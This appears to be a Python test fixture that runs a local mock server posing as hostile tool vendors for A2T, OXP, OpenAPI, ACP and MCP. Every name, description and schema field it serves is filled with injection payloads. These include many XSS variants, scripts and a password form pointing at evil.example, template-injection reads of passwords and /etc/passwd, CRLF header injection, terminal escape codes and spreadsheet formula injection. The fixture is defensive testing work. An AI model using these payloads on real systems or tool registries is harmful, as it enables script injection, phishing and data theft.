"""Texts that would act if they were taken for more than text, and vendors that send nothing else."""

import json
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

RUN = "window.__ran=1;alert(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"`><img src=x onerror=`{RUN}`>",
    f"<body onload={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>go</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<math href="javascript:{RUN}">go</math>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href="JaVa\tScRiPt:{RUN}">go</a>',
    f"javascript:{RUN}",
    f"javascript://x/%0a{RUN}",
    f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
    f"data:text/html;base64,PHNjcmlwdD5{RUN}",
    f'<iframe srcdoc="<script>parent.__ran=1</script>{RUN}"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<object data="data:text/html,{RUN}"></object><embed src=x>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "<textarea></textarea><plaintext><xmp>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "{{ 7|add:7 }}{{ request.user.password }}{% debug %}",
    "{% load static %}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "![x](https://evil.example/x.png)",
    f"[go](javascript:{RUN})<https://evil.example/>",
    f"';{RUN};//",
    f"\\';{RUN};//",
    f'{{"a":"</script><script>{RUN}</script>"}}',
    f"a\u2028{RUN}\u2029b",
    "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "\x9b31mred",
    "safe\u202etxt.exe\u2066x\u2069",
    "zero\u200bwidth\ufeff\U000e0041",
    "a\r\nSet-Cookie: sessionid=1\r\n\r\n<script>",
    "%0d%0aLocation:%20https://evil.example/",
    "=HYPERLINK(\"https://evil.example/\",\"go\")",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    f'x" hx-get="/x" hx-trigger="load" hx-on:load="{RUN}',
)  # fmt: skip
ALL = "\n".join(PAYLOADS)


def short(payload: str) -> str:
    """Return a short text for places where only a name fits."""
    return payload[:60]


def a2t(number: int, payload: str) -> dict[str, Any]:
    """A tool with the text in every place that takes one; the first of a vendor has all of them."""
    texts = PAYLOADS if number == 0 else (payload,)
    fields = [
        {
            "id": f"p{index}",
            "name": text,
            "type": "enum",
            "description": text,
            "required": False,
            "allowed-values": [{"name": text, "description": text}, {"name": "OTHER"}],
        }
        for index, text in enumerate(texts)
    ]
    return {
        "toolId": str(uuid.UUID(int=number + 1)),
        "name": short(payload),
        "description": ALL if number == 0 else payload,
        "version": 1,
        "currentVersion": 1,
        "img": "https://evil.example/x.png",
        "tags": [payload],
        "input_parameters": fields,
        "output_parameters": [{"id": "o", "name": payload, "type": "string", "description": payload}],
    }


def schema(number: int, payload: str) -> dict[str, Any]:
    texts = PAYLOADS if number == 0 else (payload,)
    return {
        "type": "object",
        "title": payload,
        "description": payload,
        "properties": {
            text: {
                "type": "string",
                "title": text,
                "description": text,
                "enum": [text, "other"],
                "default": text,
            }
            for text in texts
        },
        "examples": [payload],
    }


def mcp(number: int, payload: str) -> dict[str, Any]:
    return {
        "name": short(payload),
        "title": payload,
        "description": ALL if number == 0 else payload,
        "inputSchema": schema(number, payload),
        "outputSchema": schema(1, payload),
        "annotations": {"title": payload},
        "icons": [{"src": "https://evil.example/x.png"}, {"src": f"javascript:{RUN}"}],
        "_meta": {payload: payload},
    }


def oxp(number: int, payload: str) -> dict[str, Any]:
    return {
        "id": f"Hostile.T{number}@1.0.0",
        "name": f"Hostile_T{number}",
        "version": "1.0.0",
        "description": ALL if number == 0 else payload,
        "input_schema": schema(number, payload),
        "output_schema": schema(1, payload),
        "requirements": {
            "authorization": [{"id": payload, "oauth2": {"scopes": [payload]}}],
            "secrets": [{"id": payload}],
        },
    }


def openapi() -> dict[str, Any]:
    return {
        "openapi": "3.1.0",
        "info": {"title": PAYLOADS[0], "description": ALL, "version": "1"},
        "paths": {
            f"/t{number}": {
                "post": {
                    "operationId": short(payload),
                    "summary": payload,
                    "description": ALL if number == 0 else payload,
                    "tags": [payload],
                    "requestBody": {"content": {"application/json": {"schema": schema(number, payload)}}},
                    "responses": {"200": {"description": payload}},
                }
            }
            for number, payload in enumerate(PAYLOADS)
        },
    }


def acp_agent(number: int, payload: str) -> dict[str, Any]:
    return {
        "agent_id": str(uuid.UUID(int=number + 1)),
        "metadata": {
            "ref": {"name": short(payload), "version": "1.0.0"},
            "description": ALL if number == 0 else payload,
        },
    }


def acp_descriptor(number: int, payload: str) -> dict[str, Any]:
    agent = acp_agent(number, payload)
    capabilities = {"threads": False, "interrupts": False, "callbacks": False, "streaming": {"values": True}}
    specs = {"capabilities": capabilities, "input": schema(number, payload), "output": schema(1, payload)}
    return {"metadata": agent["metadata"], "specs": {**specs, "config": schema(1, payload)}}


def list_payloads(make: Any) -> list[dict[str, Any]]:
    return [make(number, payload) for number, payload in enumerate(PAYLOADS)]


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/a2t/tools":
            self._answer({"items": list_payloads(a2t), "paging": {"pageLimit": 100}})
        elif path == "/oxp/tools":
            self._answer({"items": list_payloads(oxp)})
        elif path == "/openapi":
            self._answer(openapi())
        elif path.endswith("/descriptor"):
            number = uuid.UUID(path.split("/")[-2]).int - 1
            self._answer(acp_descriptor(number, PAYLOADS[number]))
        else:
            self._answer({"error": ALL}, 404)

    def do_POST(self) -> None:
        document = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        if self.path == "/acp/agents/search":
            start = document.get("offset", 0)
            self._answer(list_payloads(acp_agent)[::3][start : start + document.get("limit", 10)])
        elif self.path == "/mcp":
            result = {
                "resultType": "complete",
                "tools": list_payloads(mcp),
                "ttlMs": 0,
                "cacheScope": "private",
            }
            self._answer({"jsonrpc": "2.0", "id": document["id"], "result": result})
        else:
            error = {"code": -32000, "message": ALL, "data": ALL}
            self._answer({"jsonrpc": "2.0", "id": document.get("id"), "error": error})

    def _answer(self, document: object, status: int = 200) -> None:
        body = json.dumps(document).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("OXP-Version", "1.0")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        """Quiet."""


@contextmanager
def hostile_vendors() -> Iterator[dict[str, tuple[str, str]]]:
    """The protocol and address of each, by a name for it."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    root = f"http://127.0.0.1:{server.server_port}"
    try:
        yield {
            "a2t": ("a2t", f"{root}/a2t/"),
            "oxp": ("oxp", f"{root}/oxp/"),
            "openapi": ("openapi", f"{root}/openapi"),
            "acp": ("acp", f"{root}/acp/"),
            "mcp": ("mcp", f"{root}/mcp"),
            "failing": ("mcp", f"{root}/failing"),
        }
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
